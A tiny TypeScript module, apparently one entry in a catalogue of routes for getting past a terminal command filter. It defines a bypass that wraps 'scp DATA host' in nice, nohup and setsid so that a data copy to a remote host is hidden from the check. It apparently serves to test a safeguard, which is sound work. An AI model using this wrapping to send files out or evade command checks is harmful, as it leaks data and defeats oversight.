import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by nice, nohup and setsid',
  source: 'thought of with the keys of the line editor',
  keys: ['nice nohup setsid -w scp DATA host:\r'],
};
